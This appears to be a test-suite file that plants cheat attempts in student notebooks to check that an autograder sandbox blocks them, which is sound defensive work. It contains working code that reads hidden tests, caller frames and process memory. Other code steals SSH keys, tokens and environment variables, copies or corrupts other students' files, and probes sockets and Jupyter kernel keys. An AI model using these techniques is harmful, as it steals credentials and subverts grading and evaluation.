"""B: what is secret. Honest work of these wrong answers has no points, and nothing of what was planted may come out."""

from attacks.rows import absent, cheat
from attacks.work import ARTIFACT, Work

NOT_THERE = "it is not in the sandbox"


@cheat("B1", by=NOT_THERE, states="graded, partial, timeout", shows="feedback")
def hidden_tests_on_disk(work: Work) -> None:
    """Reads the hidden tests from the notebooks around it."""
    work.code('for path in glob.glob("*") + glob.glob("../*/*"):\n    loot(read(path))')


@cheat("B2", by="the tests are not sent to the student's process")
def hidden_tests_in_history(work: Work) -> None:
    """Reads them from the history of the cells that ran."""
    work.inside("""
        shell = get_ipython()
        loot(repr(shell.user_ns.get("In")))
        loot(repr(shell.history_manager.input_hist_raw))
    """)


@cheat("B3", by="the check's frames are in the judge's process")
def frames(work: Work) -> None:
    """Walks up the frames of its caller to the check's constants and variables."""
    work.inside("""
        frame = sys._getframe()
        while frame is not None:
            loot([frame.f_code.co_consts, frame.f_locals.keys()])
            loot([value for value in frame.f_globals.values() if isinstance(value, str)])
            loot(read(frame.f_code.co_filename))
            frame = frame.f_back
    """)


@cheat("B4", by="the fork server never had a secret; other processes are out of sight", states="graded, partial, timeout")
def memory(work: Work) -> None:
    """Searches its own memory and that of every process it can open."""
    work.code("""
        def memory(pid):
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as content:
                for line in maps:
                    start, end = (int(number, 16) for number in line.split()[0].split("-"))
                    if " rw-p " in line and end - start < 2**28:
                        content.seek(start)
                        loot((attempt(content.read, end - start) or b"").decode("latin-1"))
        for pid in ["self", os.getppid(), 1, *pids()[:20]]:
            attempt(memory, pid)
        import gc
        loot([text for found in gc.get_objects() if isinstance(found, dict) for text in list(found.values())
              if isinstance(text, str)])
    """, "train_step")  # fmt: skip
    work.inside("attempt(memory, 'self')")


@cheat("B5", by=NOT_THERE, states="graded, partial, timeout")
def solutions_and_others(work: Work) -> None:
    """Reads the solutions and the other students' notebooks, and runs the solution in place of its own answers."""
    work.code("""
        import json
        around = [COURSE + "/" + name for name in ("solutions", "course", ".nbgrader-work")]
        around += ["../..", "../../..", "/proc/1/cwd", "/proc/1/root" + COURSE]
        def take(name):
            for path in files(*dict.fromkeys(map(os.path.abspath, around))):
                library = "/lib/python" in path
                if path.endswith((".ipynb", ".py")) and not library and "CANARY" in (text := read(path)):
                    loot(text)
                    for cell in (attempt(json.loads, text) or {}).get("cells", []) if "solutions/" in path else []:
                        if f"def {name}" in (source := "".join(cell["source"])):
                            attempt(exec, source, globals())
        take("mean_square")
    """)
    work.code('take("train_step")', "train_step")


@cheat("B6", by="links in a submission are not followed", states="graded, ungradable")
def links_to_neighbour(work: Work) -> None:
    """The notebook and the model are links to those of a student with right answers."""
    theirs = f"{work.traps.course}/.nbgrader-work/submitted/{work.traps.neighbour}/lab0_mini"
    work.links = {work.name: f"{theirs}/{work.name}", ARTIFACT: f"{theirs}/{ARTIFACT}"}


@cheat("B7", by="files are copied byte by byte", most=2)
def hard_link(work: Work) -> None:
    """The model is a second name of another student's file, and is written to."""
    theirs = f"{work.traps.course}/.nbgrader-work/submitted/{work.traps.neighbour}/lab0_mini"
    work.hard_links = {ARTIFACT: f"{theirs}/{ARTIFACT}"}
    work.code(f'with contextlib.suppress(OSError), open("{ARTIFACT}", "w") as file:\n    file.write("broken")')


@cheat("B8", by="an empty home and no variable of ours")
def tokens(work: Work) -> None:
    """Reads tokens and keys from the environment and the home folder, also those of every process it sees."""
    work.code("""
        import pwd
        homes = {os.path.expanduser("~"), TRAPS["home"], attempt(lambda: pwd.getpwuid(os.getuid()).pw_dir) or "/root"}
        loot(os.environ)
        folders = [f"{home}/{name}" for home in homes for name in (".ssh", ".cache/huggingface", ".config")]
        for path in files(*folders):
            loot(read(path))
        for pid in ["self", 1, os.getppid(), *pids()]:
            loot(read(f"/proc/{pid}/environ"))
    """)


@cheat("B9", by="no network, and no socket of the host in sight")
def network(work: Work) -> None:
    """Connects to loopback, to a socket file and to an abstract socket, and sends what it has."""
    work.code("""
        def send(family, address):
            with socket.socket(family) as end:
                end.settimeout(2)
                end.connect(address)
                end.sendall(f"{ROW} was here".encode())
        for address in ("127.0.0.1", "localhost", "::ffff:127.0.0.1", "0.0.0.0"):
            attempt(send, socket.AF_INET6 if ":" in address else socket.AF_INET, (address, TRAPS["port"]))
        for path in (TRAPS["socket"], "\\0" + TRAPS["socket"], "/proc/1/root" + TRAPS["socket"]):
            attempt(send, socket.AF_UNIX, path)
    """)


@cheat("B10", by="prints of a checked function are dropped, messages are ours, inputs are new each time", shows="feedback")
def hidden_inputs(work: Work) -> None:
    """Shows the hidden inputs: prints, displays, files, and the names in error messages."""
    work.inside("""
        secret = f"LEAK-{ROW}-{float(x.sum()):.6f}"
        print(secret)
        print(secret, file=sys.__stdout__)
        attempt(os.write, 1, secret.encode())
        attempt(lambda: get_ipython().display_pub.publish({"text/plain": secret}))
        proof("input", secret)
        getattr(torch, secret)
    """)


@cheat("B11", by="no kernel has a connection file, and no folder is shared")
def connection_files(work: Work) -> None:
    """Looks for the keys of other kernels in Jupyter's folder."""
    work.code("""
        from jupyter_core.paths import jupyter_runtime_dir
        for path in files(jupyter_runtime_dir(), TRAPS["home"] + "/.local/share/jupyter/runtime", "/run", "/tmp"):
            loot(read(path) if path.endswith(".json") else "")
    """)


absent("B12", "Memory of a graphics card: grading uses none, and the sandbox shows no device of one.")
